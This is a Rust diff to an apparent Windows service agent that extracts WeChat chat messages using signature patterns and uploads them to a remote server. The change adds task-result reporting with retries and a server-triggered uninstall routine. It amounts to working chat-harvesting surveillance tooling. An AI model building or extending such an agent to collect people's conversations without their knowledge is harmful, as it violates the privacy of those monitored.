@@ -11,6 +11,7 @@ use guardian::agent_service_client::AgentServiceClient;
 use guardian::HeartbeatRequest;
 use guardian::data_service_client::DataServiceClient;
 use guardian::{UploadMessagesRequest, ChatMessage};
+use guardian::{ReportTaskResultRequest, TaskResultStatus};
 use core::signature_config::SignatureConfig;
 use prost_types::Timestamp;
 use std::time::{SystemTime, UNIX_EPOCH};
@@ -130,6 +131,7 @@ fn run_service() -> WinServiceResult<()> {
                     slog::info!("CPU-intensive task received. Offloading to a blocking thread.");
                     // 获取当前特征码配置（动态）
                     let config = SIGNATURE_CONFIG.lock().unwrap().clone();
+                    let task_id = resp.task_id.clone();
                     let task_handle = tokio::task::spawn_blocking(move || {
                         crate::core::wechat::get_wechat_data(&config)
                     });
@@ -148,23 +150,47 @@ fn get_current_signature_config() -> SignatureConfig {
                             let chat_messages: Vec<ChatMessage> = messages.into_iter().map(|msg| ChatMessage {
                                 content: msg.content,
                                 timestamp: Some(Timestamp { seconds: msg.timestamp, nanos: 0 }),
+                                conversation_id: msg.conversation_id,
                             }).collect();
                             // 上传消息
+                            let mut outcome = Ok(());
                             if !chat_messages.is_empty() {
                                 let mut data_client = DataServiceClient::new(channel.clone());
-                                let _ = data_client.upload_messages(tonic::Request::new(UploadMessagesRequest {
+                                if let Err(e) = data_client.upload_messages(tonic::Request::new(UploadMessagesRequest {
                                     agent_id: 1,
                                     messages: chat_messages,
-                                })).await;
+                                    task_id: task_id.clone(),
+                                })).await {
+                                    outcome = Err(format!("upload failed: {}", e.message()));
+                                }
                             }
+                            report_task_result(&channel, &task_id, outcome).await?;
                         },
                         Ok(Err(e)) => {
                             slog::error!("Task failed within blocking thread"; "error" => e.to_string());
+                            report_task_result(&channel, &task_id, Err(e.to_string())).await?;
                         },
                         Err(join_error) => {
                             slog::error!("A panic occurred in the blocking task"; "error" => join_error.to_string());
+                            report_task_result(&channel, &task_id, Err(join_error.to_string())).await?;
                         }
                     }
+                } else if resp.task_type == guardian::TaskType::UninstallAgent as i32 {
+                    slog::info!("Uninstall task received");
+                    let task_id = resp.task_id.clone();
+                    let outcome = tokio::task::spawn_blocking(crate::core::uninstall::uninstall)
+                        .await
+                        .map_err(|e| e.to_string())
+                        .and_then(|r| r.map_err(|e| e.to_string()));
+                    let confirmed = outcome.is_ok();
+                    // 服务端收到确认后吊销证书并将 agent 置为 retired；确认送达前保留本地证书
+                    report_task_result(&channel, &task_id, outcome).await?;
+                    if confirmed {
+                        crate::core::uninstall::remove_credentials();
+                        slog::info!("Uninstall confirmed by server, stopping agent");
+                        let _ = set_service_status(&status_handle, ServiceState::Stopped);
+                        std::process::exit(0);
+                    }
                 }
                 Ok::<(), anyhow::Error>(())
             }).await;
@@ -196,6 +222,30 @@ static SIGNATURE_CONFIG: Lazy<Arc<Mutex<SignatureConfig>>> = Lazy::new(|| {
 });
 }
 
+// report_task_result 向服务端上报任务结果，失败时退避重试；Err 中为失败原因
+async fn report_task_result(channel: &Channel, task_id: &str, outcome: Result<(), String>) -> anyhow::Result<()> {
+    let (status, message) = match outcome {
+        Ok(()) => (TaskResultStatus::TaskResultCompleted, String::new()),
+        Err(reason) => (TaskResultStatus::TaskResultFailed, reason),
+    };
+    let request = ReportTaskResultRequest {
+        agent_id: 1,
+        task_id: task_id.to_string(),
+        status: status as i32,
+        message,
+    };
+    let strategy = ExponentialBackoff::from_millis(100)
+        .max_delay(std::time::Duration::from_secs(30))
+        .map(jitter)
+        .take(10);
+    Retry::spawn(strategy, || {
+        let mut client = AgentServiceClient::new(channel.clone());
+        let request = request.clone();
+        async move { client.report_task_result(tonic::Request::new(request)).await }
+    }).await?;
+    Ok(())
+}
+
 fn set_service_status(handle: &ServiceStatusHandle, state: ServiceState) -> WinServiceResult<()> {
     handle.set_service_status(ServiceStatus {
         service_type: ServiceType::OWN_PROCESS,